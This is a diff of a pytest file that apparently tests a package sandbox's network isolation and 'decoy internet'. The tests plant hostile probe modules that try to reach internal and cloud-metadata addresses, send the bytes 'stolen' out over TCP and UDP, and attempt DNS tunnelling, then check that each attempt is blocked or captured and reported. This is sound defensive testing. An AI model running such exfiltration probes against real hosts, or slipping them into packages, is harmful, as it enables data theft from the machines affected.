@@ -1,6 +1,7 @@
 """A package reaches nothing but a read-only view of the index, and every attempt is refused at once
 and reported."""
 
+import socket
 from typing import Any
 
 import pytest
@@ -9,11 +10,13 @@ from hostile import PROBES, add_probe, assert_nothing_is_left, findings, last_js
 from standins import Index, Reply, redirect
 
 
-def probe(program: Snakehook, index: Index, source: str) -> tuple[Any, dict[str, Any]]:
+def probe(
+    program: Snakehook, index: Index, source: str, **settings: object
+) -> tuple[Any, dict[str, Any]]:
     """What a module that begins with hostile.PROBES said when it was imported, and the report;
     nothing is left."""
     add_probe(index, source)
-    _, report, _ = program.triage("probe", "--mode", "import", RUN_TIMEOUT_SEC=20)
+    _, report, _ = program.triage("probe", "--mode", "import", RUN_TIMEOUT_SEC=20, **settings)
     assert report["outcome"] == "ok", report["reason"]
     nothing_is_left(program)
     return last_json(report), report
@@ -35,6 +38,9 @@ ADDRESSES = [
     "224.0.0.1",
 ]
 ADDRESSES += ["::1", "fd00:ec2::254", "fe80::1", "2001:db8::1", "::ffff:169.254.169.254"]
+
+# Localhost is not the decoy internet's.
+NEAR = ["127.0.0.1", "127.0.0.2", "::1"]
 
 CONNECT = """
 def reach(kind, host, port):
@@ -75,12 +81,10 @@ print(json.dumps({"results": results, "seconds": time.monotonic() - began}))
 """
 
 
-def test_no_address_can_be_reached_and_every_try_is_refused_at_once_and_reported(
+def test_without_the_decoy_internet_every_try_is_refused_at_once_and_reported(
     program: Snakehook, index: Index
 ) -> None:
     port = int(index.origin.rpartition(":")[2])  # of a server that does listen on this machine
-    import socket
-
     with socket.socket(socket.AF_UNIX) as neighbour:
         neighbour.bind("\0snakehook-neighbour")
         neighbour.listen()
@@ -92,7 +96,8 @@ def test_no_address_can_be_reached_and_every_try_is_refused_at_once_and_reported
         source = CONNECT.replace("HOSTS", repr([*ADDRESSES, "127.0.0.1", *local])).replace(
             "PORT", str(port)
         )
-        seen, report = probe(program, index, source.replace("NAME", "snakehook-neighbour"))
+        source = source.replace("NAME", "snakehook-neighbour")
+        seen, report = probe(program, index, source, DECOY_INTERNET="false")
     assert {
         what: got for what, got in seen["results"].items() if got in ("it worked", "TimeoutError")
     } == {}
@@ -101,6 +106,51 @@ def test_no_address_can_be_reached_and_every_try_is_refused_at_once_and_reported
     for host in ADDRESSES:
         assert any(host.rpartition(":")[2] in target for target in reported), host
     assert any("snakehook-neighbour" in target for target in reported)
+    assert len(findings(report, "network.attempt")) >= len(ADDRESSES)
+
+
+SEND = """
+def send(kind, host):
+    def probe():
+        family = socket.AF_INET6 if ":" in host else socket.AF_INET
+        with socket.socket(family, kind) as sock:
+            sock.settimeout(15)
+            sock.connect((host, PORT))
+            sock.send(b"stolen")
+    return probe
+kinds = {"tcp": socket.SOCK_STREAM, "udp": socket.SOCK_DGRAM}
+tell(**{f"{kind} {host}": send(kinds[kind], host) for kind in kinds for host in HOSTS})
+"""
+
+
+def test_what_the_decoy_internet_takes_reaches_nobody_else(
+    program: Snakehook, index: Index
+) -> None:
+    """A server at every address of this machine hears nothing, and all that was sent is told."""
+    with (
+        socket.create_server(("", 0)) as streams,
+        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams,
+    ):
+        port = streams.getsockname()[1]
+        datagrams.bind(("", port))
+        local = {str(info[4][0]) for info in socket.getaddrinfo(socket.gethostname(), port)}
+        far = [host for host in [*ADDRESSES, *sorted(local)] if host not in NEAR]
+        source = SEND.replace("HOSTS", repr([*far, *NEAR])).replace("PORT", str(port))
+        seen, report = probe(program, index, source)
+        for server in (streams, datagrams):
+            server.setblocking(False)
+        with pytest.raises(BlockingIOError):
+            streams.accept()
+        with pytest.raises(BlockingIOError):
+            datagrams.recv(100)
+    for host in NEAR:
+        assert seen[f"tcp {host}"] == "ECONNREFUSED"
+    answered = [host for host in far if seen[f"tcp {host}"] == "it worked"]
+    assert {"10.0.0.1", "192.168.1.1", "fd00:ec2::254", "2001:db8::1"} <= {*answered}
+    told = {item["target"]: item["payload"] for item in report["network"] if item["payload"]}
+    for host in answered:
+        plain = host.removeprefix("::ffff:")
+        assert {told[target]["text"] for target in told if plain in target} == {"stolen"}, host
     assert len(findings(report, "network.attempt")) >= len(ADDRESSES)
 
 
@@ -127,7 +177,10 @@ def tcp():
         return [answer[3] & 15, int.from_bytes(answer[6:8], "big")]
 def foreign():
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
+        sock.settimeout(10)
         sock.sendto(question(1), ("192.0.2.53", 53))
+        answer = sock.recv(4096)
+        return [answer[3] & 15, int.from_bytes(answer[6:8], "big")]
 print(json.dumps({"name": name, "a": attempt(udp(1)), "txt": attempt(udp(16)), "tcp": attempt(tcp),
                   "foreign": attempt(foreign)}))
 """
@@ -138,7 +191,7 @@ def test_dns_carries_nothing_out_and_nothing_in_over_udp_and_tcp(
 ) -> None:
     seen, report = probe(program, index, TUNNEL)
     assert seen["a"] == seen["txt"] == seen["tcp"] == [3, 0]  # NXDOMAIN, without an answer
-    assert seen["foreign"] == "ENETUNREACH"
+    assert seen["foreign"] == [3, 0]  # by the same resolver, whatever address was asked
     assert seen["name"] in targets(report, ["dns"])
     assert any("192.0.2.53" in target for target in targets(report))
     assert not [path for _, path in index.requests if "tunnel" in path]
